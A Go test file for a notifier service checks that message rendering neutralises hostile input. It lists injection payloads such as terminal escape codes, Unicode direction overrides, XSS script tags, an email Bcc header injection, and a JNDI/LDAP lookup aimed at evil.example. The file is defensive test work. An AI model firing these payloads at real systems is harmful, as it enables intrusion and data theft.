package channel_test

import (
	"strings"
	"testing"
	"unicode"

	"squirrly.dev/pkg/events"
	"squirrly.dev/services/notifier/internal/channel"
)

// hostile are names of jobs, vertices and frames, and readings, that try something.
var hostile = []string{
	"orders", "",
	"x\x1b[2J\x1b]0;owned\x07\nRejected: nothing\r\u202e\u2028y\u200b\x00",
	`<script>alert(1)</script><img src=http://evil.example/p.png onerror=x>`,
	"![p](http://evil.example/p.png) [click](javascript:alert(1)) <http://evil.example|safe>",
	"<!channel> <!here> <@U123> <#C1> @channel @here @everyone @torvalds org/repo#12 #1 GH-1 &lt;!here&gt;",
	"subject\r\nBcc: all@evil.example\r\n\r\n<h1>body</h1>",
	"`code` ```fence``` *b* _i_ ~s~ ||spoiler|| $x^2$ ${jndi:ldap://evil.example} {{.Secret}} {{ range }}",
	"\xff\xfe broken \xed\xa0\x80 UTF-8", strings.Repeat("😀é漢", 5000), strings.Repeat("&<>\"'", 3000), strings.Repeat("a", 100_000),
	"--> <!-- squirrly:finding:aaaaaaaaaaaa --> ]]> */ ; DROP",
}

// poisoned is a message all of whose texts are s.
func poisoned(t testing.TB, s string) channel.Message {
	t.Helper()
	s = s[:min(len(s), 4000)] // an event has 64 KiB
	m := news(t)
	r := m.Runs[0].Ready
	r.JobName, r.Verdict.Headline, r.Verdict.Gain, r.ReportURL = s, s, s, s
	r.Degraded, r.DegradedWhy = true, []string{s, s, s}
	r.Readings = []events.Reading{{Text: s}, {About: "1", Text: s}}
	for i := range r.Findings {
		f := &r.Findings[i]
		f.Title, f.Anchor, f.Recommendation.Change, f.Recommendation.Impact = s, s, s, s
	}
	for i := range m.Runs[0].Changes {
		c := &m.Runs[0].Changes[i]
		c.Title, c.Anchor, c.Advice, c.JobName, c.Category, c.Rule, c.Dismiss = s, s, s, s, s, s, s
	}
	m.Runs[0].Identity.Job = s
	o := run(t, rejected())
	o.Outcome.Message, o.Outcome.Hint, o.Identity.Job, o.Outcome.Code = s, s, s, events.Code(s)
	m.Runs = append(m.Runs, o)
	return m
}

// harmless reports characters that steer a terminal or turn a text around.
func harmless(t testing.TB, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && r != '\u200b' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) {
			t.Errorf("%U came through: %.300q", r, text)
			return
		}
	}
}
